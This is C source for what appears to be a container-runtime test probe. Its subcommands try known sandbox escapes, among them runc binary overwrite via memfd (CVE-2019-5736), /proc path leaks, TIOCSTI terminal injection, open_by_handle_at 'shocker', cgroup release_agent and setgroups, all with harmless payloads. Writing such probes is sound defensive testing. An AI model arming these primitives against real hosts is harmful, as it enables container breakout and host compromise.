// What an attacker inside or a hostile caller outside does: one small static program with a word per attack.
//
// It says what it could do, one word first, on standard output; the tests judge. Nothing here may hurt the machine:
// arguments are harmless, loops end by themselves.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define SECONDS_AT_MOST 170
enum { KEYCTL_JOIN = 1, KEYCTL_SEARCH_IN = 10, SESSION_KEYRING = -3, GET_SEALS = 1034 };

static const char *told(long result) { return result < 0 ? strerrorname_np(errno) : "ok"; }

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static _Noreturn void run(char **argv) {
    execvp(argv[0], argv);
    perror(argv[0]);
    exit(127);
}

// seals PATH: the seals of a memory file.
static int seals(char **a) {
    int fd = open(a[0], O_RDONLY | O_CLOEXEC);
    long found = fd < 0 ? -1 : fcntl(fd, GET_SEALS);
    if (found < 0) return printf("none %s\n", told(-1)), 0;
    return printf("seals %lx\n", found), 0;
}

// leak COUNT DIRECTORY COMMAND...: a careless caller with open directories.
static int leak(char **a) {
    for (int i = 0; i < atoi(a[0]); i++)
        if (open(a[1], O_RDONLY | O_DIRECTORY) < 0) return perror(a[1]), 1;
    run(a + 2);
}

// swap A B: exchanges two names as quickly as it can until its standard input ends.
static int swap(char **a) {
    struct pollfd input = {0, POLLIN, 0};
    double begin = now();
    puts("swapping");
    fflush(stdout);
    for (unsigned long i = 0;; i++) {
        if (renameat2(AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE) < 0) return perror("renameat2"), 1;
        if (i % 1024 == 0 && (now() - begin > SECONDS_AT_MOST || poll(&input, 1, 0) != 0)) break;
    }
    return 0;
}

// Every process but this one and PID 1, again and again until standard input ends.
static int each_process(void (*visit)(int pid, char **a), char **a) {
    struct pollfd input = {0, POLLIN, 0};
    double begin = now();
    puts("watching");
    fflush(stdout);
    while (now() - begin < SECONDS_AT_MOST && poll(&input, 1, 0) == 0) {
        DIR *proc = opendir("/proc");
        for (struct dirent *e; proc != NULL && (e = readdir(proc)) != NULL;) {
            int pid = atoi(e->d_name);
            if (pid > 1 && pid != getpid()) visit(pid, a);
        }
        if (proc != NULL) closedir(proc);
    }
    puts("end");
    return 0;
}

#define HANDLES 8
static int handles[HANDLES] = {-1, -1, -1, -1, -1, -1, -1, -1};

// Keeps handles of the images of passing processes, and tries to write into memory files among them (CVE-2019-5736).
static void overwrite_one(int pid, char **a) {
    (void)a;
    char path[64], link[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int handle = open(path, O_PATH | O_CLOEXEC);
    if (handle < 0) return;
    static int next;
    int place = next++ % HANDLES;
    if (handles[place] >= 0) close(handles[place]);
    handles[place] = handle;
    for (int i = 0; i < HANDLES; i++) {
        if (handles[i] < 0) continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", handles[i]);
        ssize_t length = readlink(path, link, sizeof link - 1);
        if (length < 7 || strncmp(link, "/memfd:", 7) != 0) continue;
        link[length] = 0;
        static int seen;
        if (seen++ == 0) printf("seen %s\n", link);
        int writer = open(path, O_WRONLY | O_CLOEXEC);
        if (writer >= 0 && write(writer, "\177", 1) == 1) printf("wrote %s\n", link);
        if (writer >= 0) close(writer);
        fflush(stdout);
    }
}

// Looks for a way to the host through a process that is being set up (CVE-2016-9962).
static void look_one(int pid, char **a) {
    static const char *ways[] = {"root", "cwd"};
    char path[300];
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s%s", pid, ways[i], a[0]);
        if (access(path, F_OK) == 0) printf("reached the canary by %s\n", ways[i]);
    }
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *descriptors = opendir(path);
    for (struct dirent *e; descriptors != NULL && (e = readdir(descriptors)) != NULL;) {
        if (e->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "/proc/%d/fd/%s/secret", pid, e->d_name);
        if (access(path, F_OK) == 0) printf("reached the canary by fd\n");
    }
    if (descriptors != NULL) closedir(descriptors);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        char link[64] = "";
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        if (readlink(path, link, sizeof link - 1) > 0 && strncmp(link, "/memfd:", 7) == 0) puts("attached to the launcher");
        int status;
        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid) ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    fflush(stdout);
}

// tiocsti: pushes a character into the terminal behind standard input (CVE-2017-5226, CVE-2023-28100).
static int tiocsti(void) {
    char push = '!', paste[2] = {3, 0};
    long pushed = ioctl(0, TIOCSTI, &push);
    printf("TIOCSTI %s\n", told(pushed));
    long pasted = ioctl(0, TIOCLINUX, paste);
    printf("TIOCLINUX %s\n", told(pasted));
    return 0;
}

// pty COMMAND...: a terminal session around a command; says what is left in its input afterwards.
static int pty(char **a) {
    int main = posix_openpt(O_RDWR | O_NOCTTY), left = 0;
    if (main < 0 || grantpt(main) < 0 || unlockpt(main) < 0) return perror("pty"), 1;
    int held = open(ptsname(main), O_RDWR | O_NOCTTY);
    struct termios raw;
    tcgetattr(held, &raw);
    cfmakeraw(&raw);
    tcsetattr(held, TCSANOW, &raw);
    pid_t child = fork();
    if (child == 0) {
        setsid();
        ioctl(held, TIOCSCTTY, 0);
        for (int i = 0; i < 3; i++) dup2(held, i);
        close(held);
        close(main);
        run(a);
    }
    int status = 0;
    for (double begin = now(); waitpid(child, &status, WNOHANG) == 0 && now() - begin < 20; usleep(2000)) {
        struct pollfd from = {main, POLLIN, 0};
        char buffer[4096];
        if (poll(&from, 1, 0) == 1 && from.revents & POLLIN) fwrite(buffer, 1, (size_t)read(main, buffer, sizeof buffer), stdout);
    }
    struct pollfd rest = {main, POLLIN, 0};
    char buffer[4096];
    while (poll(&rest, 1, 50) == 1 && rest.revents & POLLIN) fwrite(buffer, 1, (size_t)read(main, buffer, sizeof buffer), stdout);
    ioctl(held, FIONREAD, &left);
    printf("\nleft %d exit %d\n", left, WEXITSTATUS(status));
    return 0;
}

struct named { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; };

// handle-of PATH: type and bytes of a file handle, as an attacker may guess them.
static int handle_of(char **a) {
    struct named h = {.head.handle_bytes = MAX_HANDLE_SZ};
    int mount;
    if (name_to_handle_at(AT_FDCWD, a[0], &h.head, &mount, 0) < 0) return perror("name_to_handle_at"), 1;
    printf("%d ", h.head.handle_type);
    for (unsigned i = 0; i < h.head.handle_bytes; i++) printf("%02x", h.head.f_handle[i]);
    puts("");
    return 0;
}

// by-handle TYPE HEX: opens that directory by handle, through the file system of its own root ("shocker").
static int by_handle(char **a) {
    struct named h = {.head.handle_bytes = (unsigned)strlen(a[1]) / 2, .head.handle_type = atoi(a[0])};
    for (unsigned i = 0; i < h.head.handle_bytes; i++) sscanf(a[1] + 2 * i, "%2hhx", &h.head.f_handle[i]);
    int root = open("/", O_RDONLY | O_DIRECTORY);
    int found = open_by_handle_at(root, &h.head, O_RDONLY | O_DIRECTORY);
    if (found < 0) return printf("refused %s\n", told(-1)), 0;
    printf("opened; secret %s\n", faccessat(found, "secret", F_OK, 0) == 0 ? "reached" : "not there");
    return 0;
}

// key-join NAME COMMAND...: a caller with a key in its session keyring.
static int key_join(char **a) {
    if (syscall(SYS_keyctl, KEYCTL_JOIN, NULL) < 0) return perror("keyctl"), 1;
    if (syscall(SYS_add_key, "user", a[0], "secret", 6, SESSION_KEYRING) < 0) return perror("add_key"), 1;
    run(a + 1);
}

static int key_search(char **a) {
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH_IN, SESSION_KEYRING, "user", a[0], 0);
    return printf("%s %s\n", key < 0 ? "absent" : "found", told(key)), 0;
}

// node TYPE MAJOR MINOR: makes a device node and opens it for reading and for writing.
static int node(char **a) {
    const char *path = "/tmp/attack-node";
    unlink(path);
    long made = mknod(path, (a[0][0] == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev((unsigned)atoi(a[1]), (unsigned)atoi(a[2])));
    printf("%s %s:%s mknod %s", a[0], a[1], a[2], told(made));
    if (made == 0) {
        int reader = open(path, O_RDONLY | O_NONBLOCK), failed = errno;
        int writer = open(path, O_WRONLY | O_NONBLOCK);
        printf(" read %s", reader < 0 ? strerrorname_np(failed) : "ok");
        printf(" write %s", told(writer));
    }
    unlink(path);
    return puts(""), 0;
}

// release: a cgroup v1 hierarchy in namespaces of its own, and its release_agent (CVE-2022-0492). With "user" the
// attacker first makes a user namespace.
static int release(char **a) {
    int user = a[0] != NULL && strcmp(a[0], "user") == 0;
    if (unshare(CLONE_NEWNS | CLONE_NEWCGROUP | (user ? CLONE_NEWUSER : 0)) < 0) return printf("unshare %s\n", told(-1)), 0;
    static const char *controllers[] = {"pids", "memory", "devices", "freezer", "rdma", "name=systemd", "net_cls", "perf_event"};
    mkdir("/tmp/attack-cgroup", 0755);
    for (unsigned i = 0; i < sizeof controllers / sizeof *controllers; i++) {
        long mounted = mount("cgroup", "/tmp/attack-cgroup", "cgroup", 0, controllers[i]);
        printf("mount %s %s\n", controllers[i], told(mounted));
        if (mounted < 0) continue;
        int agent = open("/tmp/attack-cgroup/release_agent", O_WRONLY);
        printf("release_agent %s\n", told(agent));
        umount("/tmp/attack-cgroup");
    }
    rmdir("/tmp/attack-cgroup");
    return 0;
}

// nested-proc: a procfs without masks, in namespaces of its own.
static int nested_proc(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0) return printf("unshare %s\n", told(-1)), 0;
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        mkdir("/tmp/attack-proc", 0755);
        printf("proc %s\n", told(mount("proc", "/tmp/attack-proc", "proc", 0, NULL)));
        printf("sysfs %s\n", told(mount("sysfs", "/tmp/attack-proc", "sysfs", 0, NULL)));
        rmdir("/tmp/attack-proc");
        exit(0);
    }
    return waitpid(child, NULL, 0) == child ? 0 : 1;
}

// groups: drops all supplementary groups, which would shed one that denies (CVE-2014-8989).
static int groups(void) { return printf("setgroups %s\n", told(syscall(SYS_setgroups, 0, NULL))), 0; }

// show PATH: what this very process reads there; busybox's cat gives set-user-id privileges up.
static int show(char **a) {
    char buffer[8192];
    int fd = open(a[0], O_RDONLY);
    ssize_t length = fd < 0 ? -1 : read(fd, buffer, sizeof buffer);
    if (length < 0) return perror(a[0]), 1;
    return fwrite(buffer, 1, (size_t)length, stdout) == (size_t)length ? 0 : 1;
}

static int overwrite(char **a) { return each_process(overwrite_one, a); }
static int look(char **a) { return each_process(look_one, a); }
static int tiocsti_(char **a) { return (void)a, tiocsti(); }
static int nested(char **a) { return (void)a, nested_proc(); }
static int groups_(char **a) { return (void)a, groups(); }

int main(int argc, char **argv) {
    static const struct { const char *word; int (*act)(char **); int least; } acts[] = {
        {"seals", seals, 1},         {"leak", leak, 3},           {"swap", swap, 2},       {"overwrite", overwrite, 0},
        {"look", look, 1},           {"tiocsti", tiocsti_, 0},    {"pty", pty, 1},         {"handle-of", handle_of, 1},
        {"by-handle", by_handle, 2}, {"key-join", key_join, 2},   {"key-search", key_search, 1},
        {"node", node, 3},           {"release", release, 0},     {"nested-proc", nested, 0},
        {"groups", groups_, 0},       {"show", show, 1},
    };
    for (unsigned i = 0; argc > 1 && i < sizeof acts / sizeof *acts; i++)
        if (strcmp(argv[1], acts[i].word) == 0 && argc - 2 >= acts[i].least) return acts[i].act(argv + 2);
    fprintf(stderr, "usage: probe WORD [ARGUMENT...]\n");
    return 2;
}
